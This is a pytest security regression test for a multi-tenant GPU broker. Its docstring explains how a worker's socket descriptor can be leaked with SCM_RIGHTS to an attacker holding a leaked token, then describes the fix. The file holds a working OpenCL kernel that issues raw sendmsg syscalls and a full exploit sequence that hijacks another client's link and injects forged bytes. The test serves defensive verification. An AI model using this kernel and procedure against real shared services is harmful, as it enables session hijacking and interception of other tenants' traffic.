"""A worker passes its end of another client's link out, and the copy outlives the worker's retirement.

The hole (a known gap until now): a worker runs its tenant's code, which can ``sendmsg`` any descriptor the worker
holds, with SCM_RIGHTS, over a link to a client that accepts descriptors. Bob's token leaks to mallory. She opens
a link on bob's session and launches one kernel that passes her the worker's end of bob's own link. Bob rotates his
token and the broker reloads: the front retires the worker (``_retire.py``), whose death closes every descriptor it
held, but not mallory's copy, which is outside it. So bob's link stays connected, to mallory: what bob's client
sends on it is hers to read, and what she writes on it reaches bob's client as if the worker had answered.

Measured (2-core VM, PoCL, defaults): after the reload the worker was gone, bob's link was not hung up, and six bytes
mallory wrote on her copy arrived on bob's link.

The fix (front/_handed.py): the front keeps a descriptor of every link it hands to a worker, and shuts it when the
worker ends. A shutdown acts on the socket, not on one descriptor of it, so every copy ends with the worker's:
bob's link is hung up at the reload, and mallory's copy is dead.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator

import numpy as np
import pytest

from gpubroker.broker.launcher import BrokerProcess, TenantSpec
from gpubroker.client import ModuleFormat, connect

from ..conftest import worker_pids
from ..helpers import wait_for
from .exploits import SYSCALL_SOURCE, check_arch
from .test_link_outlives_revocation import hangs_up, open_link, rotate_and_reload, socket_fds

# sendmsg(via, {iov: one byte, control: SCM_RIGHTS [fd]}, 0) from inside the worker.
PASS_SOURCE = SYSCALL_SOURCE + r"""
__kernel void gpb_pass(__global long* out, const long via, const long fd) {
    char byte = 'x';
    long iov[2];
    long control[3];
    long msg[7];
    iov[0] = (long)&byte;
    iov[1] = 1;
    control[0] = 20;                      /* cmsg_len: CMSG_LEN(sizeof(int)) */
    ((int*)control)[2] = 1;               /* SOL_SOCKET */
    ((int*)control)[3] = 1;               /* SCM_RIGHTS */
    ((int*)control)[4] = (int)fd;
    ((int*)control)[5] = 0;
    msg[0] = 0; msg[1] = 0;               /* no name */
    msg[2] = (long)iov; msg[3] = 1;
    msg[4] = (long)control; msg[5] = 24;  /* CMSG_SPACE(sizeof(int)) */
    msg[6] = 0;
    out[0] = sys6(46, via, (long)msg, 0, 0, 0, 0);
}
"""


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerProcess]:
    check_arch()
    tmp = tmp_path_factory.mktemp("passed-link")
    tenants = [TenantSpec("ops", admin=True), TenantSpec("bob")]
    with BrokerProcess(tenants, backend="opencl", settings={"cache_dir": str(tmp / "caches")}) as proc:
        yield proc


def new_socket_fd(worker: int, before: dict[int, str]) -> int:
    wait_for(lambda: len(set(socket_fds(worker)) - set(before)) == 1, 10, "the worker to take the link")
    (fd,) = set(socket_fds(worker)) - set(before)
    return fd


def test_a_link_passed_out_of_the_worker_ends_with_the_worker(broker: BrokerProcess) -> None:
    old = broker.tokens["bob"]
    with connect(broker.target, token=old, timeout=60, transport="grpc", shared_memory=False) as bob:
        bob.allocate_memory(4096)
        (worker,) = worker_pids(broker, "bob")
        before = socket_fds(worker)
        bobs_link = open_link(broker, old, bob.session)
        bobs_fd = new_socket_fd(worker, before)
        # Mallory, holding bob's leaked token: a link of her own on bob's session, and one kernel launch.
        before = socket_fds(worker)
        her_link = open_link(broker, old, bob.session)
        her_fd = new_socket_fd(worker, before)
        with connect(broker.target, token=old, timeout=60, transport="grpc", shared_memory=False) as mallory:
            kernel = mallory.get_kernel(mallory.load_module(PASS_SOURCE, ModuleFormat.OPENCL_C), "gpb_pass")
            out = mallory.allocate_memory(8)
            mallory.execute_kernel(kernel, 1, 1, [out, np.int64(her_fd), np.int64(bobs_fd)])
            mallory.synchronize()
            sent = np.zeros(1, dtype=np.int64)
            mallory.copy_d2h(out, sent)
        assert sent[0] == 1, f"the worker's sendmsg returned {sent[0]}"
        _, fds, _, _ = socket.recv_fds(her_link, 1, 1)
        assert len(fds) == 1, "no descriptor came with the byte"
        copy = socket.socket(fileno=fds[0])
        # Bob rotates his token and the broker reloads: the front retires the worker that ran the old token's code.
        rotate_and_reload(broker, "bob")
        wait_for(lambda: worker not in worker_pids(broker, "bob"), 10, "the retired worker to be gone")
        cut = hangs_up(bobs_link, "bob's link")
        forged = b""
        if not cut:  # mallory answers on bob's link in the worker's place
            copy.sendall(b"forged")
            bobs_link.settimeout(5)
            forged = bobs_link.recv(6, socket.MSG_WAITALL)
        assert cut, f"bob's link outlived the worker that served it, and carried mallory's bytes: {forged!r}"
        with pytest.raises(OSError):  # (the worker's end is shut: mallory's copy writes nowhere)
            copy.sendall(b"forged")
        copy.close()
        bobs_link.close()
        her_link.close()
